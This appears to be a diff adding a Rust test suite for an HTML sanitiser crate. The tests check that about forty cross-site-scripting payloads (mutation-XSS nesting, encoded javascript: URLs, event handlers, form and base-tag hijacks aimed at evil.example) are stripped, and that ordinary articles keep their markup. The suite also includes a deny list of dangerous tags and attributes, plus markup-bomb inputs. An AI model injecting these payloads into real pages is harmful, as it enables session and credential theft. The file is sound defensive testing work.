@@ -1,0 +1,257 @@
+//! The policy against attacks and against ordinary articles, from outside.
+
+use std::time::{Duration, Instant};
+
+use broadsheet_sanitise::{sanitise, snippet, with_pictures};
+use proptest::prelude::*;
+
+const BASE: Option<&str> = Some("https://paper.example/news/story.html");
+
+const ATTACKS: &[&str] = &[
+    "<script>steal()</script>",
+    "<scr<script>ipt>steal()</script>",
+    "<img src=x onerror=steal()>",
+    "<img src='x' onerror='steal()'/onload=steal()>",
+    "<svg onload=steal()>",
+    "<svg><script>steal()</script></svg>",
+    "<svg><animate attributeName=href values=javascript:steal() /></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
+    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
+    "<a href=javascript:steal()>a</a>",
+    "<a href=' java\tscript:steal()'>a</a>",
+    "<a href='&#106;avascript&colon;steal()'>a</a>",
+    "<a href='data:text/html,<script>steal()</script>'>a</a>",
+    "<a href='vbscript:steal()'>a</a>",
+    "<iframe srcdoc='<script>steal()</script>'></iframe>",
+    "<object data='javascript:steal()'></object>",
+    "<embed src='javascript:steal()'>",
+    "<base href='https://evil.example/'><a href=x>a</a>",
+    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<style>*{background:url(javascript:steal())}</style>",
+    "<p style='position:fixed;inset:0'>x</p>",
+    "<p style='background:url(https://evil.example/a)'>x</p>",
+    "<form action='https://evil.example/'><input name=password><button formaction=javascript:steal()>x</button></form>",
+    "<img srcset='https://evil.example/a.png 1x'>",
+    "<picture><source srcset='https://evil.example/a.png'><img src='data:image/svg+xml,<svg onload=steal()>'></picture>",
+    "<video poster='https://evil.example/a.png' src='https://evil.example/b.mp4' onerror=steal()></video>",
+    "<details open ontoggle=steal()>x</details>",
+    "<template><script>steal()</script></template>",
+    "<textarea></textarea><script>steal()</script>",
+    "<title><img src=x onerror=steal()></title>",
+    "<xmp><p title='</xmp><script>steal()</script>'></xmp>",
+    "<plaintext><script>steal()",
+    "<p id=location name=cookie class=toolbar>x</p>",
+    "<blockquote cite='javascript:steal()'>x</blockquote>",
+    "<table background='javascript:steal()'><tr><td background=x>x</table>",
+    "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
+    "<![CDATA[<script>steal()</script>]]>",
+    "<?xml-stylesheet href='javascript:steal()'?>",
+    "<a href=x autofocus onfocus=steal() accesskey=x tabindex=1 contenteditable>x</a>",
+    "\u{0}<scr\u{0}ipt>steal()</script>",
+    "<img src='http://127.0.0.1/pixel.png'>",
+    "<img src='http://ipc.localhost/x'>",
+];
+
+fn is_clean(html: &str) -> Result<(), String> {
+    let lower = html.to_ascii_lowercase();
+    for bad in [
+        "<script",
+        "javascript:",
+        "vbscript:",
+        "data:",
+        "<iframe",
+        "<object",
+        "<embed",
+        "<svg",
+        "<math",
+        "<style",
+        "<form",
+        "<input",
+        "<link",
+        "<meta",
+        "<base",
+        "<template",
+        "<noscript",
+        "<textarea",
+        "<title",
+        "<xmp",
+        "<plaintext",
+        "<source",
+        " style=",
+        " id=",
+        " name=",
+        " class=",
+        " srcset=",
+        " poster=",
+        " cite=",
+        "evil.example",
+        "127.0.0.1",
+        ".localhost",
+    ] {
+        if lower.contains(bad) {
+            return Err(format!("{bad} in {html}"));
+        }
+    }
+    // Inside tags only, and not in what is quoted there: a sentence may well say “on=”.
+    let unquoted: String = lower.split('"').step_by(2).collect();
+    for tag in unquoted.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
+        if tag.split_whitespace().skip(1).any(|word| word.starts_with("on") && word.contains('=')) {
+            return Err(format!("a handler in {html}"));
+        }
+    }
+    Ok(())
+}
+
+#[test]
+fn no_attack_survives() {
+    for attack in ATTACKS {
+        for wrapped in [(*attack).to_owned(), format!("<p>before {attack} after</p>"), format!("<table><tr>{attack}")] {
+            let safe = sanitise(&wrapped, BASE).into_string();
+            is_clean(&safe).unwrap_or_else(|found| panic!("{wrapped}: {found}"));
+            assert_eq!(sanitise(&safe, BASE).as_str(), safe, "not a fixed point: {wrapped}");
+            let shown = with_pictures(&wrapped, &|_| None).into_string();
+            assert!(!shown.contains(" src="), "{shown}");
+        }
+    }
+}
+
+#[test]
+fn an_article_keeps_its_shape() {
+    let article = "<h2>What happened</h2><p lang=\"uk\" dir=\"ltr\">Two <em>days</em> of <a href=\"/talks?a=1&amp;b=2\">talks</a>.</p>\
+        <figure><img src=\"pic.jpg\" alt=\"Hall &quot;A&quot;\" width=\"800\" height=\"600\"><figcaption>The hall. <cite>A. Name</cite></figcaption></figure>\
+        <blockquote><p>Words.</p></blockquote><ol start=\"3\"><li>One</li></ol>\
+        <table><thead><tr><th scope=\"col\">A</th></tr></thead><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>\
+        <details open=\"\"><summary>More</summary>Text</details><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>\
+        <pre><code>a &lt; b\n</code></pre><dl><dt>T</dt><dd>D</dd></dl><p><time datetime=\"2026-01-02\">then</time></p>";
+    let expected = article
+        .replace(
+            "href=\"/talks?a=1&amp;b=2\"",
+            "href=\"https://paper.example/talks?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\"",
+        )
+        .replace("pic.jpg", "https://paper.example/news/pic.jpg");
+    assert_eq!(sanitise(article, BASE).as_str(), expected);
+}
+
+#[test]
+fn pictures_come_from_where_they_are_placed_or_not_at_all() {
+    let stored = "<p><img src=\"https://cdn.example/a.jpg?x=1&amp;y=2\" alt=\"A\"><img src=\"https://cdn.example/b.jpg\" alt=\"B &lt;b&gt;\"></p>";
+    let shown = with_pictures(stored, &|src| {
+        (src == "https://cdn.example/a.jpg?x=1&y=2").then(|| "library://localhost/asset/00".to_owned())
+    });
+    assert_eq!(
+        shown.as_str(),
+        "<p><img src=\"library://localhost/asset/00\" alt=\"A\"><span class=\"missing-picture\">B &lt;b&gt;</span></p>"
+    );
+}
+
+#[test]
+fn snippets_are_text_with_balanced_marks() {
+    assert_eq!(snippet("a <b>[x] & [y", "[", "]").as_str(), "a &lt;b&gt;<mark>x</mark> &amp; <mark>y</mark>");
+    assert_eq!(snippet("]a[[b]]", "[", "]").as_str(), "a<mark>b</mark>");
+    assert_eq!(snippet("plain", "", "").as_str(), "plain");
+}
+
+#[test]
+fn bombs_take_bounded_time_and_room() {
+    for bomb in [
+        "<div>".repeat(20_000),
+        "<b>".repeat(20_000),
+        "<b><p>".repeat(10_000),
+        "<table><tr><td>".repeat(7_000),
+        "<a href=x><p>".repeat(10_000),
+        (0..20_000).map(|n| format!("<font color={n}><i id={n}>")).collect(),
+        format!("<p {}>", (0..20_000).map(|n| format!("a{n}=1 ")).collect::<String>()),
+        "<!--".repeat(20_000),
+        "<svg>".repeat(20_000),
+        "</p>".repeat(20_000),
+        "<li><ul>".repeat(10_000),
+    ] {
+        let started = Instant::now();
+        let safe = sanitise(&bomb, None).into_string();
+        assert!(started.elapsed() < Duration::from_secs(3), "{} bytes took {:?}", bomb.len(), started.elapsed());
+        assert!(safe.len() <= bomb.len() * 8 + 10_000);
+    }
+}
+
+fn markup() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        prop::sample::select(ATTACKS).prop_map(str::to_owned),
+        prop::sample::select(
+            &[
+                "<p>",
+                "</p>",
+                "<b>",
+                "</b>",
+                "<a href=x>",
+                "</a>",
+                "<table>",
+                "</table>",
+                "<tr>",
+                "<td>",
+                "</td>",
+                "<li>",
+                "<ul>",
+                "</ul>",
+                "<pre>\n",
+                "</pre>",
+                "<h1>",
+                "<h2>",
+                "</h2>",
+                "<div>",
+                "</div>",
+                "<figure>",
+                "</figure>",
+                "<img src=a.png>",
+                "<br>",
+                "</br>",
+                "<ruby>",
+                "<rt>",
+                "<svg>",
+                "</svg>",
+                "<math>",
+                "<mi>",
+                "<!--",
+                "-->",
+                "&amp;",
+                "&lt;",
+                "&",
+                "<",
+                ">",
+                "\"",
+                "'",
+                "\n",
+                " ",
+                "word",
+                "<caption>",
+                "<tbody>",
+                "<col>",
+                "<dl>",
+                "<dt>",
+                "<dd>",
+                "<details>",
+                "<summary>",
+                "<hr>",
+                "<span>",
+                "</span>",
+                "<i>",
+                "</i>",
+            ][..]
+        )
+        .prop_map(str::to_owned),
+        "\\PC{0,12}",
+    ];
+    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(2000))]
+
+    #[test]
+    fn whatever_comes_in_is_clean_and_stays_the_same(html in markup()) {
+        let safe = sanitise(&html, BASE).into_string();
+        prop_assert_eq!(is_clean(&safe.replace("data:", "").replace("javascript:", "")), Ok(()));
+        prop_assert_eq!(sanitise(&safe, BASE).into_string(), safe);
+    }
+}
